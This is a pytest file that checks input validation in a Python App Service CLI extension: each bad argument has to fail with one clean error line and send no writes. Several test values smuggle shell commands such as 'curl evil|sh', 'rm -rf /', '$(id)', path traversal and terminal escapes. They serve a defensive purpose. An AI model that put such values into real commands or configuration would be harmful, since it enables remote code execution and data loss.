"""At least 50 invalid inputs across every command: each one exits non-zero with a single error line that
names the parameter (or the app), prints no traceback, and sends no write request."""

import os

import pytest

from azext_pyappsvc.platform.inputs import CONTROL
from tests.emulator.seeds import SUBSCRIPTION

APP = ["-g", "rg-python", "-n", "py-web"]
SITE = "/subscriptions/{}/resourceGroups/rg-python/providers/Microsoft.Web/sites/".format(SUBSCRIPTION)


@pytest.fixture(scope="module")
def odd_projects(tmp_path_factory):
    """Projects that stress the file reader: huge, binary, looping, unreadable-as-a-file."""
    root = tmp_path_factory.mktemp("odd")
    huge = root / "huge"
    huge.mkdir()
    (huge / "requirements.txt").write_text("flask\n" + "# padding\n" * 1_100_000)      # ~11 MB
    (huge / "app.py").write_text("from flask import Flask\napp = Flask(__name__)\n")
    binary = root / "binary"
    binary.mkdir()
    (binary / "app.py").write_bytes(b"\x00\x01\x02\xff" * 1000)
    (binary / "startup.bin").write_bytes(os.urandom(2048))
    looping = root / "looping"
    (looping / "pkg").mkdir(parents=True)
    (looping / "pkg" / "again").symlink_to(looping)
    (looping / "dangling.sh").symlink_to(root / "nowhere.sh")
    folder_file = root / "not-a-folder.txt"
    folder_file.write_text("I am a file")
    weird = root / "weird"
    (weird / "requirements.txt").mkdir(parents=True)               # a folder where a file is expected
    legacy = root / "legacy"
    legacy.mkdir()
    (legacy / "web.config").write_text('<configuration><appSettings><add key="WSGI_HANDLER" value="app.app"/>'
                                       '</appSettings></configuration>')
    (legacy / "app.py").write_text("from flask import Flask\napp = Flask(__name__)\n")
    return {name: str(root / name) for name in ("huge", "binary", "looping", "weird", "legacy")} | \
        {"file": str(folder_file)}


CASES = [
    # set-runtime: versions
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.x"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "2.7"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "PHP|8.2"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "DOCKER|python:3.12"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", ""], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.5"], "--version '3.5' is not offered"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.9"], "--version '3.9' reached end of life"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.12; rm -rf /"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "🐍3.12"], "--version"),
    # names, slots, ids
    (["pyappsvc", "set-runtime", "-g", "rg-python", "-n", "no-such-app", "--version", "3.12"], "'no-such-app'"),
    (["pyappsvc", "set-runtime"] + APP + ["--slot", "nope", "--version", "3.12"], "slot 'nope'"),
    (["pyappsvc", "set-build", "-g", "no-such-group", "-n", "py-web", "--build-on-deploy", "true"], "no-such-group"),
    (["pyappsvc", "set-runtime", "--ids", SITE + "ghost", "--version", "3.12"], "'ghost'"),
    (["pyappsvc", "doctor", "--ids", "/subscriptions/x/resourceGroups/y"], "--ids"),
    (["pyappsvc", "doctor", "--ids", SITE + "py-web/config/web"], "--ids"),
    # set-build: booleans, empty requests, scripts, paths
    (["pyappsvc", "set-build"] + APP + ["--build-on-deploy", "maybe"], "--build-on-deploy"),
    (["pyappsvc", "set-build"] + APP + ["--build-on-deploy", "2"], "--build-on-deploy"),
    (["pyappsvc", "set-build"] + APP + ["--disable-collectstatic", "TRUE!"], "--disable-collectstatic"),
    (["pyappsvc", "set-build"] + APP, "--pre-build"),
    (["pyappsvc", "set-build"] + APP + ["--pre-build", "echo \x1b[31mred"], "--pre-build"),
    (["pyappsvc", "set-build"] + APP + ["--post-build", "sh 'oops", "--source", "{huge}"], "--post-build"),
    (["pyappsvc", "set-build"] + APP + ["--pre-build-script", "scripts/missing.sh", "--source", "{huge}"],
     "--pre-build-script"),
    (["pyappsvc", "set-build"] + APP + ["--pre-build-script", "dangling.sh", "--source", "{looping}"],
     "--pre-build-script"),
    (["pyappsvc", "set-build"] + APP + ["--build-on-deploy", "true", "--source", "{file}"], "--source"),
    (["pyappsvc", "set-build"] + APP + ["--build-on-deploy", "true", "--source", "/no/such/dir"], "--source"),
    (["pyappsvc", "set-build", "-g", "rg-python", "-n", "win-app", "--build-on-deploy", "true"], "Windows app"),
    (["pyappsvc", "set-build", "-g", "rg-python", "-n", "py-container", "--build-on-deploy", "true"],
     "custom container"),
    # set-startup: commands, conflicting options, parts, files
    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn --bind 127.0.0.1 app:app"], "binds 127.0.0.1"),
    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn -b 0.0.0.0:80 app:app"], "port 80"),
    (["pyappsvc", "set-startup"] + APP + ["--command", 'gunicorn "app:app'], "--command"),
    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app", "--clear"], "--command"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--file", "startup.sh"], "--command"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "1app:app"], "--module"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--workers", "-3"], "--workers"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--timeout", "0"], "--timeout"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--server", "waitress"], "--server"),
    (["pyappsvc", "set-startup"] + APP + ["--clear", "--workers", "2"], "--workers"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "missing:app", "--source", "{huge}"], "missing"),
    (["pyappsvc", "set-startup"] + APP + ["--file", "startup.bin", "--source", "{huge}"], "--file"),
    (["pyappsvc", "set-startup"] + APP + ["--detect", "--source", "{binary}"], "--detect"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--source", "{weird}"],
     "Module app is not in the project"),
    (["pyappsvc", "set-startup", "-g", "rg-python", "-n", "py-func", "--module", "app:app"], "function app"),
    # values that would change the script they are written into, or the terminal they are echoed to
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "site; curl evil|sh"], "--chdir"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "../../etc"], "--chdir"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "/home/site/wwwroot"], "--chdir"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "$(id)"], "--chdir"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir=-src"], "--chdir"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir=--reload"], "--chdir"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app\n"], "--module"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app\nERROR: forged"], "--module"),
    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app; id"], "--module"),
    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app\x1b]0;owned\x07"], "--command"),
    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app\nrm -rf /home"], "--command"),
    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app\u0085id"], "--command"),
    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app \u202e#"], "--command"),
    (["pyappsvc", "set-startup"] + APP + ["--file", "start$(id).sh"], "--file"),
    (["pyappsvc", "set-startup"] + APP + ["--file", "../startup.sh"], "--file"),
    (["pyappsvc", "set-build"] + APP + ["--pre-build", "pip install -r req.txt\ncurl evil|sh"], "--pre-build"),
    (["pyappsvc", "set-build"] + APP + ["--post-build", "echo ok\u2028id"], "--post-build"),
    (["pyappsvc", "set-build"] + APP + ["--pre-build-script", "scripts/pre.sh\r"], "--pre-build-script"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.013"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "\uff13.\uff11\uff12"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.\u0661\u0662"], "--version"),
    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.12\n"], "--version"),
    # show-startup, doctor, list-runtimes
    (["pyappsvc", "show-startup"], "--source"),
    (["pyappsvc", "show-startup", "--source", "{file}"], "--source"),
    (["pyappsvc", "doctor", "-n", "py-web"], "--resource-group"),
    (["pyappsvc", "doctor", "--all", "-g", "rg-python"], "--all"),
    (["pyappsvc", "doctor", "--source", "{huge}", "--max-parallel", "1000"], "--max-parallel"),
    (["pyappsvc", "doctor", "--source", "{huge}", "--fail-on", "sometimes"], "--fail-on"),
    (["pyappsvc", "doctor"] + APP + ["--since", "yesterday"], "--since"),
    (["pyappsvc", "doctor"] + APP + ["--python-version", "3.12"], "--python-version"),      # an app has its own
    (["pyappsvc", "show-startup"] + APP + ["--python-version", "3.12"], "--python-version"),
    (["pyappsvc", "doctor", "--source", ".", "--python-version", "3.x"], "--python-version"),
    (["pyappsvc", "doctor"] + APP + ["--since", "2026-13-45T99:00:00Z"], "--since"),
    (["pyappsvc", "doctor"] + APP + ["--since", "10x"], "--since"),
    (["pyappsvc", "doctor"] + APP + ["--since", "999999d"], "--since"),
    (["pyappsvc", "doctor"] + APP + ["--since", "0001-01-01T00:00:00+01:00"], "--since"),
    (["pyappsvc", "doctor"] + APP + ["--logs", "--no-logs"], "--logs"),
    (["pyappsvc", "doctor", "--all-subscriptions", "--since", "2d"], "--since"),
    (["pyappsvc", "doctor", "--all-subscriptions", "--slot", "staging"], "--slot"),
    (["pyappsvc", "list-runtimes", "--functions", "--unknown"], "--unknown"),
    # migrate: no legacy configuration, odd folders, targets
    (["pyappsvc", "migrate"], "--source"),
    (["pyappsvc", "migrate", "--source", "{huge}"], "--source"),
    (["pyappsvc", "migrate", "--source", "{binary}"], "--source"),
    (["pyappsvc", "migrate", "--source", "{file}"], "--source"),
    (["pyappsvc", "migrate", "--source", "/no/such/dir"], "--source"),
    (["pyappsvc", "migrate", "--source", "{legacy}", "--target-app", "py-web"], "--target-resource-group"),
    (["pyappsvc", "migrate", "--source", "{legacy}", "--target-app", "py web", "--target-resource-group",
      "rg-python"], "--target-app"),
    (["pyappsvc", "migrate", "--source", "{legacy}", "--target-app", "py-func", "--target-resource-group",
      "rg-python", "--apply"], "function app"),
    (["pyappsvc", "migrate", "--source", "{legacy}", "--target-app", "py-container", "--target-resource-group",
      "rg-python", "--apply"], "custom container"),
    (["pyappsvc", "migrate", "--ids", SITE + "py-web"], "is not a Windows app"),
]


@pytest.mark.parametrize("args, names", CASES, ids=["{:02d}".format(i) for i in range(len(CASES))])
def test_bad_input_is_one_line_and_writes_nothing(az_live, live_emulator, odd_projects, args, names):
    args = [arg.format(**odd_projects) if arg.startswith("{") else arg for arg in args]
    result = az_live(args)
    assert result.exit_code != 0, result.stdout
    assert "Traceback" not in result.stderr
    lines = result.error_lines
    assert len(lines) == 1, result.stderr
    assert not CONTROL.search(result.stderr.replace("\n", "")), repr(result.stderr)
    assert names in lines[0], lines[0]
    assert [entry for entry in live_emulator.requests() if entry.is_write] == []
